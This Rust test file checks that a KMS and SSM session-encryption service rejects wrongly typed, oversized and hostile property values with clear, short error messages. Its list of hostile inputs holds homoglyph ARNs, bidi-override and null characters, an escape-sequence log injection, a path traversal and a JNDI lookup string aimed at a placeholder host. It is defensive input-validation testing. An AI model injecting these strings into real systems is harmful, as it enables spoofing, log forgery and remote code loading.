//! Properties of the wrong type and size: the message names the property, the value, and what is allowed.

use serde_json::{Value, json};

use super::arena::{Arena, Before};
use super::samples::samples;
use crate::effort;

/// The longest message about one wrong property, in bytes, whatever its value is. An answer has room for it.
const LONGEST_MESSAGE: usize = 2500;

/// What a property takes.
#[derive(Clone, Copy)]
enum Takes {
    /// One of some words, which the message lists.
    Word(&'static str),
    Flag,
    /// Any text.
    Text,
    /// A text of a form, which the message describes by this word.
    TextLike(&'static str),
    /// Texts of a form.
    ListOf(&'static str),
    /// Any texts.
    List,
    /// An object or its text, of a form.
    Object(&'static str),
}

use Takes::{Flag, List, ListOf, Object, Text, TextLike, Word};

const ENCRYPTION: [(&str, Takes); 4] = [
    ("Encryption", Word("`Disabled`")),
    ("KmsKeyId", TextLike("alias name")),
    ("DocumentName", TextLike("3 to 128 letters")),
    ("OnKeyTrouble", Word("`Standby`")),
];
const SESSION_ENCRYPTION: [(&str, Takes); 14] = [
    ("CreateDocument", Flag),
    ("OnDelete", Word("`Restore`")),
    ("OnConflict", Word("`TakeOver`")),
    ("Preflight", Word("`Strict`")),
    ("Users", ListOf("role/NAME")),
    ("Nodes", ListOf("role/NAME")),
    ("Exempt", List),
    ("DiscoverUsers", Flag),
    ("DiscoverNodes", Flag),
    ("Context", Object("object")),
    ("KeyPolicyReaderRoleArn", TextLike("role/NAME")),
    ("KeyPolicyReaderExternalId", Text),
    ("KeyPolicy", Object("key policy")),
    ("Revision", Text),
];
const SESSION_KEY: [(&str, Takes); 2] = [("GrantKeyArns", ListOf("key/KEY-ID")), ("Revision", Text)];
const KEY_ACCESS: [(&str, Takes); 7] = [
    ("KmsKeyId", TextLike("alias name")),
    ("ConsumerAccounts", ListOf("twelve digits")),
    ("Users", ListOf("role/NAME")),
    ("Nodes", ListOf("role/NAME")),
    ("Context", Object("object")),
    ("Require", Word("`NotDenied`")),
    ("Revision", Text),
];

/// Texts that look like what the samples have, and are not.
const HOSTILE: [&str; 12] = [
    "arn:aws:\u{43a}ms:eu-west-1:123456789012:key/1234abcd-12ab-34cd-56ef-1234567890ab",
    "arn:aws:kms:eu-west-1:\u{ff11}\u{ff12}3456789012:key/1234abcd-12ab-34cd-56ef-1234567890ab",
    "arn:aws:kms:eu-west-1:123456789012:key/1234abcd-12ab-34cd-56ef-1234567890ab\n",
    " arn:aws:kms:eu-west-1:123456789012:key/1234abcd-12ab-34cd-56ef-1234567890ab",
    "arn:aws:iam::123456789012:role/Op\u{202e}s\u{2066}",
    "arn:aws:iam::123456789012:role/\0",
    "arn:aws:iam::123456789012:role/Ops\u{1b}[2J\r\n{\"level\":\"INFO\"}",
    "arn:aws:iam::\u{ff11}23456789012:role/Ops",
    "arn:aws:iam::123456789012:r\u{43e}le/Ops",
    "../../SSM-SessionManagerRunShell",
    "\u{405}SM-SessionManagerRunShell",
    "${jndi:ldap://evil.example/a}",
];

/// A wrong value, and how the message shows it.
type Wrong = (Value, &'static str);

/// Values of another type than a property takes.
fn of_another_type(takes: Takes) -> Vec<Wrong> {
    let (list, object) = ((json!(["x"]), "a list"), (json!({"a": "b"}), "an object"));
    let mut wrong = match takes {
        Word(_) => {
            vec![list, object, (json!(7), "`7`"), (json!(true), "`true`"), (json!("Maybe"), "`Maybe`")]
        }
        Flag => vec![list, object, (json!(7), "`7`"), (json!("Maybe"), "`Maybe`"), (json!("truе"), "`tru")],
        Text => vec![list, object],
        TextLike(_) => vec![list, object, (json!(7), "`7`")],
        ListOf(_) => vec![
            object,
            (json!([["x"]]), ""),
            (json!([{"a": "b"}]), ""),
            (json!([7]), "`7`"),
            (json!("x"), "`x`"),
        ],
        List => vec![object, (json!([["x"]]), ""), (json!([{"a": "b"}]), "")],
        Object(_) => vec![list, (json!(7), "`7`"), (json!("[1"), ""), (json!("7"), "")],
    };
    // An empty list or object is of another type too, where none is taken.
    if matches!(takes, Word(_) | Flag | Text | TextLike(_)) {
        wrong.extend([(json!([]), "a list"), (json!({}), "an object")]);
    }
    wrong
}

/// Hostile texts, and how the message begins to show them.
fn hostile(takes: Takes) -> Vec<Wrong> {
    match takes {
        Word(_) | Flag | TextLike(_) | ListOf(_) | Object(_) => {
            HOSTILE.iter().map(|text| (json!(text), "")).collect()
        }
        Text | List => Vec::new(),
    }
}

/// The same values and texts of a megabyte, long lists and deep ones.
fn oversize(takes: Takes) -> Vec<Wrong> {
    let length = effort::amount(30_000, 1 << 20);
    let (long, hidden) = ("x".repeat(length), "\u{1}\u{202e}".repeat(length / 4));
    match takes {
        Word(_) | Flag | TextLike(_) => vec![(json!(long), "xxxxx"), (json!(hidden), "")],
        ListOf(_) => vec![
            (json!(long), "xxxxx"),
            (json!([long]), "xxxxx"),
            (json!(vec!["y"; length / 100]), "`y`"),
            (json!([hidden]), ""),
        ],
        Object(_) => vec![(json!(long), ""), (json!(hidden), "")],
        Text | List => Vec::new(),
    }
}

fn allowed(takes: Takes) -> &'static str {
    match takes {
        Word(word) | TextLike(word) | ListOf(word) | Object(word) => word,
        Flag => "true or false",
        Text => "text",
        List => "list",
    }
}

/// Checks the message about one wrong value of one property.
fn check(arena: &Arena, case: &str, message: &str, name: &str, shown: &str, takes: Takes) {
    // A value of another type is told by the type that is wanted, another text by the form that is wanted.
    let by_type = ["must be text", "must be a list of texts", "must be an object or text"];
    let tells = message.contains(allowed(takes)) || by_type.iter().any(|words| message.contains(words));
    for (holds, what) in [
        (message.contains(&format!("`{name}`")), "does not name the property"),
        (message.contains(shown), "does not show the value"),
        (tells, "does not say what is allowed"),
        (message.len() <= LONGEST_MESSAGE, "is too long"),
    ] {
        if !holds {
            arena.broken(case, &format!("the message of {} bytes {what}: {message:.600}", message.len()));
        }
    }
}

fn resources() -> Vec<(&'static str, Vec<(&'static str, Takes)>)> {
    let encryption = || ENCRYPTION.into_iter();
    vec![
        ("custom-resource-create", encryption().chain(SESSION_ENCRYPTION).collect()),
        ("session-key-create", encryption().chain(SESSION_KEY).collect()),
        ("key-access-update", KEY_ACCESS.to_vec()),
    ]
}

fn sample(name: &str) -> Value {
    samples().into_iter().find(|(one, _)| one == name).unwrap().1
}

/// The name of a property as direct calls spell it.
fn camel_case(name: &str) -> String {
    let mut letters = name.chars();
    letters.next().map(|first| first.to_ascii_lowercase()).into_iter().chain(letters).collect()
}

#[tokio::test]
async fn a_wrong_property_of_a_custom_resource_is_answered_with_what_is_allowed() {
    let arena = Arena::new().await;
    for (sample_name, properties) in resources() {
        for (name, takes) in properties {
            for values in [of_another_type, hostile, oversize] {
                for (value, shown) in values(takes) {
                    let mut event = sample(sample_name);
                    event["ResourceProperties"][name] = value.clone();
                    arena.reset(Before::Unowned);
                    arena.address(&mut event);
                    let case = format!("{sample_name}, {name} is {:.60}", value.to_string());
                    let Some(outcome) = arena.run(&case, event.to_string().as_bytes()).await else {
                        continue;
                    };
                    let answer = &outcome.answers[0];
                    if answer.success {
                        arena.broken(&case, "it is accepted");
                    } else {
                        check(&arena, &case, &answer.reason, name, shown, takes);
                    }
                }
            }
        }
    }
    let cases = arena.finish();
    effort::report(
        "bad-input-properties",
        &format!("{cases} wrong properties, each told with what is allowed"),
    );
}

#[tokio::test]
async fn a_wrong_property_of_a_direct_call_is_answered_with_what_is_allowed() {
    let arena = Arena::new().await;
    for (name, takes) in ENCRYPTION.into_iter().chain(SESSION_ENCRYPTION) {
        for values in [of_another_type, hostile, oversize] {
            for (value, shown) in values(takes) {
                let name = camel_case(name);
                let mut event = sample("direct-plan");
                event[&name] = value.clone();
                arena.reset(Before::Unowned);
                let case = format!("direct-plan, {name} is {:.60}", value.to_string());
                let Some(outcome) = arena.run(&case, event.to_string().as_bytes()).await else { continue };
                match outcome.result.as_ref().map(|answer| answer["error"]["message"].as_str()) {
                    Ok(Some(message)) => check(&arena, &case, message, &name, shown, takes),
                    Ok(None) => arena.broken(&case, "it is accepted"),
                    Err(_) => arena.broken(&case, "it rings an alarm"),
                }
            }
        }
    }
    arena.finish();
}

/// Members of the request itself, each with a wrong value and with what the message has to say.
const MEMBERS: [(&str, &str); 7] = [
    ("RequestType", "Create, Update or Delete"),
    ("ResourceType", "text"),
    ("PhysicalResourceId", "text"),
    ("ResourceProperties", "object"),
    ("OldResourceProperties", "object"),
    ("ResourceProperties/ServiceTimeout", "1 to 3600"),
    ("ResourceProperties/DocumentName", "3 to 128 letters"),
];

#[tokio::test]
async fn a_wrong_member_of_a_request_is_answered_with_what_is_allowed() {
    let arena = Arena::new().await;
    let long = "x".repeat(effort::amount(30_000, 1 << 20));
    let wrong = [json!(7), json!("7000 "), json!(long), json!(true), json!({}), json!([]), json!(null)];
    for (member, allowed) in MEMBERS {
        for value in &wrong {
            let mut event = sample("custom-resource-update");
            arena.reset(Before::AsWanted);
            arena.address(&mut event);
            let before = event.pointer_mut(&format!("/{member}")).unwrap().clone();
            *event.pointer_mut(&format!("/{member}")).unwrap() = value.clone();
            let is_right = match value {
                Value::String(_) => ["ResourceType", "PhysicalResourceId"].contains(&member),
                Value::Object(_) => before.is_object(),
                Value::Null | Value::Bool(_) => member.ends_with("DocumentName"),
                Value::Number(_) => member.ends_with("ServiceTimeout"),
                _ => false,
            };
            let case = format!("custom-resource-update, {member} is {:.60}", value.to_string());
            let Some(outcome) = arena.run(&case, event.to_string().as_bytes()).await else { continue };
            let answer = &outcome.answers[0];
            let name = member.rsplit('/').next().unwrap();
            let tells = answer.reason.contains(&format!("`{name}`"))
                && (answer.reason.contains(allowed) || answer.reason.contains("text"));
            let is_short = answer.reason.len() <= LONGEST_MESSAGE;
            if !is_right && (answer.success || !tells || !is_short) {
                arena.broken(&case, &format!("{} bytes: {:.300}", answer.reason.len(), answer.reason));
            }
        }
    }
    arena.finish();
}

/// The first problems are told, each whole, and how many more there are.
#[tokio::test]
async fn of_many_wrong_properties_the_first_are_told_whole_and_the_others_are_counted() {
    let arena = Arena::new().await;
    let mut event = sample("custom-resource-create");
    let long = "x".repeat(100_000);
    let properties: Vec<_> = ENCRYPTION.into_iter().chain(SESSION_ENCRYPTION).collect();
    for (name, takes) in &properties {
        event["ResourceProperties"][name] =
            if matches!(takes, ListOf(_) | List) { json!(long) } else { json!([long]) };
    }
    arena.reset(Before::Unowned);
    arena.address(&mut event);
    let outcome = arena.run("all properties are wrong", event.to_string().as_bytes()).await.unwrap();
    let reason = &outcome.answers[0].reason;
    let named = properties.iter().filter(|(name, _)| reason.contains(&format!("`{name}`"))).count();
    assert!(named >= 8, "{named} are named in {reason}");
    assert!(reason.ends_with(" more"), "{reason}");
    arena.finish();
}
